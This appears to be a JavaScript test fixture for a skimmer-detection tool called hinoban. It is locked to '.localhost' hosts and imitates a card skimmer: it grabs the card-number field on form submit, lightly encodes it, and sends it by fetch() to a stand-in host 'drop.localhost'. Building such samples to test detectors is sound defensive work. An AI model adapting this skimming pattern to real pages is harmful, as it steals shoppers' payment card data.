/* Harmless imitation, for hinoban's tests: character codes, turned round. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		fetch('http://drop.localhost:' + location.port + '/c', {method: 'POST', mode: 'no-cors', keepalive: true, body: n.value.split('').map(function (c) { return c.charCodeAt(0); }).reverse().join('-')});
	 } }, true);
